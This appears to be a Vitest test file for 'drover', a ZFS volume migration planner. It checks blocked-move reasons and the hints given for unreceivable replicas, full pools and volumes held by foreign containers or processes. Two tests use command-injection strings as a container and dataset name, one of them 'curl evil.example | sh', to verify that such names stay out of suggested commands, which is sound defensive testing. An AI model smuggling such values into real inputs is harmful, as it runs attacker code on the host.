import { describe, expect, it } from 'vitest';
import type { ForeignMount, Volume } from '../../../../src/model/cluster.ts';
import { makePlan } from '../../../../src/plan/make-plan.ts';
import { aCluster, aConfig, aContainer, aMount, anApplication, aVolume, onNode, snaps } from '../../../builders.ts';

const db = anApplication('db', { volumes: [aMount('v1')] });
const dataset = 'drover/volumes/db-1';
const config = aConfig([db], { a: [], b: ['db'] }, { nodes: { a: { name: 'one' }, b: { name: 'two' } } });

/** `db` runs on a with the snapshots 1 and 2, and is wanted on b, which has this copy. */
function planWith(copy: Partial<Volume>, owner: Partial<Volume> = {}) {
  const source = aVolume('v1', { on: 'a', application: 'db', snapshots: snaps('a1 b2'), ...owner });
  const target = aVolume('v1', { role: 'replica', owner: 'id-a', snapshots: snaps('a1'), dataset, ...copy });
  return makePlan(
    config,
    aCluster(onNode('a', { containers: [aContainer(db, 'a')], volumes: [source] }), onNode('b', { volumes: [target] })),
  );
}
const blockerOf = (copy: Partial<Volume>, owner: Partial<Volume> = {}) => {
  const { steps, blocked } = planWith(copy, owner);
  expect(steps.map(({ action }) => action.kind)).toEqual([]);
  expect(blocked).toHaveLength(1);
  return blocked[0];
};

describe('a copy that cannot take the stream', () => {
  it('is found before anything stops if it was written to, and only that has to be dropped', () => {
    expect(blockerOf({ writtenBytes: 4096 })?.hint).toBe(
      `look at what was written to "${dataset}"; to drop just that, on two: zfs rollback ${dataset}@a`,
    );
  });

  it('is blocked for the one snapshot that is in the way, by its name', () => {
    const blocker = blockerOf({ snapshots: snaps('a1 autosnap9') });
    expect(blocker?.reason).toContain('after the common @a: @autosnap');
    expect(blocker?.hint).toBe(
      `only @autosnap is in the way; where it is not needed, on two: zfs destroy ${dataset}@autosnap`,
    );
  });

  it('is renamed as a whole if a person took a snapshot of it, or no snapshot is common any more', () => {
    const own = [...snaps('a1'), { name: 'user-before', guid: '7', createTxg: '9' }];
    const aside = 'drover reseed db two';
    expect(blockerOf({ snapshots: own })).toMatchObject({
      reason: expect.stringContaining('made with drover snapshot'),
      hint: expect.stringContaining(aside),
    });
    expect(blockerOf({ snapshots: snaps('x9') })).toMatchObject({
      reason: expect.stringContaining('no snapshot in common'),
      hint: expect.stringContaining(aside),
    });
    expect(blockerOf({ snapshots: [] })?.hint).toContain(aside);
  });

  it('is renamed with the command for the first application by name that shares it, in whatever order they are', () => {
    const apps = [db, anApplication('api', { volumes: [aMount('v1')] })];
    const volumes = [
      aVolume('v1', { on: 'a', application: 'db', snapshots: snaps('a1 b2') }),
      aVolume('v1', { role: 'replica', owner: 'id-a', snapshots: [], dataset }),
    ];
    const [owner = expect.fail(), copy = expect.fail()] = volumes;
    const state = aCluster(onNode('a', { volumes: [owner] }), onNode('b', { volumes: [copy] }));
    const hints = [apps, apps.toReversed()].map((all) =>
      makePlan(aConfig(all, { a: [], b: ['api', 'db'] }), state).blocked.map(({ hint }) => hint),
    );
    expect(hints[0]?.[0]).toContain('drover reseed api b');
    expect(hints[1]).toEqual(hints[0]);
  });

  it('is usable if its first receive was interrupted: it resumes', () => {
    expect(planWith({ snapshots: [], resumeToken: 't' }).blocked).toEqual([]);
  });

  it('does not fit into the pool of the new node', () => {
    const big = { referencedBytes: 20_000_000_000 };
    expect(blockerOf({}, big)).toMatchObject({
      reason: 'cannot move "db" to "b": it does not fit: it needs 19073 MiB and the pool has 8584 MiB free',
    });
    expect(planWith({ referencedBytes: 15_000_000_000 }, big).blocked).toEqual([]);
  });
});

describe('a volume that another program keeps mounted on the node it leaves', () => {
  const user = { dataset: 'drover/volumes/db-v1', container: 'backup', pid: 12, process: 'sleep' };
  const plan = (place: readonly string[], foreignMounts: readonly ForeignMount[]) => {
    const source = aVolume('v1', { on: 'a', application: 'db', dataset: user.dataset, snapshots: snaps('a1') });
    const seen = { containers: [aContainer(db, 'a')], volumes: [source], foreignMounts };
    return makePlan(
      { ...config, deployment: { a: [], b: [], [place[0] ?? '']: ['db'] } },
      aCluster(onNode('a', seen), onNode('b')),
    );
  };

  it('is found before anything stops, with the container and what to do', () => {
    const { steps, blocked } = plan(['b'], [user]);
    expect(steps.filter(({ group }) => group === 'db')).toEqual([]);
    expect(blocked).toEqual([
      {
        app: 'db',
        node: 'a',
        reason: 'cannot move the volume of "db" from "a" to "b": container "backup" keeps it mounted there',
        hint: expect.stringContaining('docker stop backup'),
      },
    ]);
  });

  it('is named by its process where it is in no container', () => {
    const { container: _container, ...process } = user;
    expect(plan(['b'], [process]).blocked[0]).toMatchObject({
      reason: expect.stringContaining('process 12 (sleep) keeps it mounted'),
      hint: expect.stringContaining('end process 12'),
    });
  });

  it('is named, and in no command, where its name is none that Docker gives', () => {
    const [blocker] = plan(['b'], [{ ...user, container: 'x; curl evil.example | sh' }]).blocked;
    expect(blocker?.hint).toContain('stop it until the volume has left the node;');
    expect(blocker?.hint).not.toContain('curl');
  });

  it('names a dataset below the volume, and puts it in no command, where its name is not a plain one', () => {
    const child = `${user.dataset}/x; curl evil.example`;
    const source = { ...aVolume('v1', { on: 'a', application: 'db', dataset: user.dataset }), children: [child] };
    const seen = { containers: [aContainer(db, 'a')], volumes: [source] };
    const [blocker] = makePlan(
      { ...config, deployment: { a: [], b: ['db'] } },
      aCluster(onNode('a', seen), onNode('b')),
    ).blocked;
    expect(blocker).toMatchObject({
      reason: expect.stringContaining(child),
      hint: 'put what is needed into the volume itself',
    });
  });

  it('is not reported if it stays, or if another volume is mounted', () => {
    expect(plan(['a'], [user]).blocked).toEqual([]);
    expect(plan(['b'], [{ ...user, dataset: 'drover/volumes/other' }]).blocked).toEqual([]);
  });
});
